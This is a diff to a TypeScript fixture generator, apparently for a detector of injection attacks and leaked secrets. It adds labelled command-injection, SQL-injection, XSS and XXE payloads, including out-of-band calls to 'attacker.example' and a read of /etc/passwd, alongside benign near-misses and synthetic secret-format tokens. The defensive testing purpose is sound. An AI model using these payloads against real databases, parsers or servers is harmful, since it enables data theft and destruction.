@@ -147,6 +147,41 @@ for (const v of benign) {
   attacks.push({ value: v, label: "benign", form: "raw" });
   attacks.push({ value: urlEncodeSpecial(v), label: "benign", form: "url" });
 }
+// Rows added with later rules (they were appended to attacks.json by hand, which a rebuild dropped): each
+// value raw and URL-encoded with every reserved byte encoded, '*' and '!' too.
+const pairRows: Array<[AttackLabel, string]> = [
+  ["cmdi", "$y = 'sys'.'tem';($y)('uname');"],
+  ["cmdi", "Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\""],
+  ["cmdi", "'pass' . 'thru'"],
+  ["cmdi", "[system][0](ls);"],
+  ["cmdi", "(/* comment */system)(ls);"],
+  ["sqli", "9999 or {if length((/*!50000select username/*!50000from*/user))>0}"],
+  ["sqli", "execute immediate 'drop table users'"],
+  ["sqli", "DECLARE/**/@x"],
+  ["sqli", "exec master..xp_dirtree '//attacker.example/a'"],
+  ["sqli", "unistr(password)::int"],
+  ["sqli", "lo_import('/etc/passwd')"],
+  ["sqli", "information_schema"],
+  ["sqli", "procedure analyse ("],
+  ["xss", "¼script¾alert(1)¼/script¾"],
+  ["xss", "STYLE=X:URL(JAVASCRIPT"],
+  ["xss", "&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B"],
+  ["xxe", "<xs:include schemaLocation=\"http://attacker.example/x.xsd\"/>"],
+  ["benign", "'sys' 'admin' team"],
+  ["benign", "see [exec] (below)"],
+  ["benign", "Foo::Text and std::string"],
+  ["benign", "price::numeric is a cast"],
+  ["benign", "we declare @home tonight"],
+  ["benign", "the information_schema database lists tables"],
+  ["benign", "¼ cup sugar and ¾ cup flour"],
+  ["benign", "Javascript: the good parts"],
+  ["benign", "<xs:include schemaLocation=\"common.xsd\"/>"],
+];
+function urlEncodeReserved(s: string): string { return urlEncodeSpecial(s).replace(/\*/g, "%2A").replace(/!/g, "%21"); }
+for (const [label, v] of pairRows) {
+  attacks.push({ value: v, label, form: "raw" });
+  attacks.push({ value: urlEncodeReserved(v), label, form: "url" });
+}
 
 // ---- PII ----------------------------------------------------------------------------------------------------
 type PiiLabel = "card" | "ssn" | "iban" | "email" | "phone" | "ipv4" | "ipv6" | "jwt" | "secret" | "password" | "dob" | "none";
@@ -213,10 +248,23 @@ for (let i = 0; i < 4; i++) {
 pii.push({ value: `${b64url({ foo: "bar" })}.${b64url({ a: 1 })}.c2ln`, key: "token", label: "none" });
 pii.push({ value: "aaa.bbb.ccc", key: "token", label: "none" });
 const secrets = [
-  "AKIA" + "IOSFODNN7EXAMPLE", "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyzAB".slice(0, 36), "glpat-" + "abcdefghij1234567890", "xoxb-" + "123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
+  "AKIA" + "Q7LMZ2HNVW4TXKRB", "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyzAB".slice(0, 36), "glpat-" + "abcdefghij1234567890", "xoxb-" + "123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
   "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "AIza" + "SyA1234567890abcdefghijklmnopqrstuv", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----",
+  // The formats of gitleaks' rules for these providers, beyond the first ones: more AWS key id kinds, Amazon
+  // Bedrock keys, GitLab's routable, agent and registration tokens, Slack configuration tokens and workflow
+  // webhooks, Stripe's prod keys.
+  "ABIA" + "VW3XQ5M7ZT2PLKRN", "ACCA" + "6JH4TQ2ZLMX7WPRV", "A3TX" + "J2KMQ7ZRW5TLPVNB",
+  "ABSK" + "QmVkcm9ja0FQSUtleS1" + "k3R9xqPzL2mWvT8sYb4N".repeat(5) + "Hq7Jd=", "bedrock-api-key-" + "YmVkcm9jay5hbWF6b25hd3MuY29t" + "L3D9x+qPzL2mW/vT8sYb4NkR".repeat(3),
+  "glpat-" + "k3R9xqPzL2mWvT8sYb4NHq7Jd_a" + ".01" + "b7x2k9q", "glrt-t" + "1_" + "Zk3R9xqPzL2mWvT8sYb4NHq7Jd2" + ".01" + "c8v3m1z", "glagent-" + "Xq7Jd2k3R9xqPzL2mWvT8sYb4N".repeat(2),
+  "GR1348941" + "mWvT8sYb4NHq7Jd2k3R9", "xoxe.xoxp-1-" + "4ev6Bfxz45RSqMRyhj34u3raXVMff2j62LiAQGVIcIMH63yNzmSecD82hUMkKgiet87fBrcSuAXkSiSCpJ".repeat(2),
+  "https://hooks.slack.com/workflows/" + "T04MCQMEXQ9/A05K2L9QW7A/4821902359/7Zx9kQpLm2VbR4tYw8NcH3sJ", "sk_prod_" + "YIemV66Oy6sHcRsKBpcI4hhavk",
 ];
 for (const s of secrets) pii.push({ value: s, key: "config", label: "secret" });
+// Placeholders and templates that have a token's format only (documentation, redacted samples): not secrets.
+for (const s of ["AKIA" + "IOSFODNN7EXAMPLE", "AKIA" + "XXXXXXXXXXXXXXXX", "ghp_" + "x".repeat(36), "glpat-" + "XXXXXXXXXXX-XXXXXXXX", "sk_live_" + "0".repeat(24),
+  "xoxb-" + "xxxxxxxxx-xxxxxxxxxx-xxxxxxxxxxxx", "https://hooks.slack.com/services/T00000000/B00000000/" + "X".repeat(24), "AIza" + "a".repeat(35),
+  "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----\nXXXX\nXXXX\n-----END OPENSSH PRIVATE KEY-----",
+  "xoxo-hugs-and-kisses-from-all-of-us"]) pii.push({ value: s, key: "config", label: "none" });
 for (const s of ["hunter2", "correct horse battery staple"]) pii.push({ value: s, key: "password", label: "password" });
 for (const s of ["1990-04-12", "12/04/1990"]) pii.push({ value: s, key: "date_of_birth", label: "dob" });
 // Near misses: order ids, EAN barcodes, IMEIs, version strings, timestamps, UUIDs, prices.
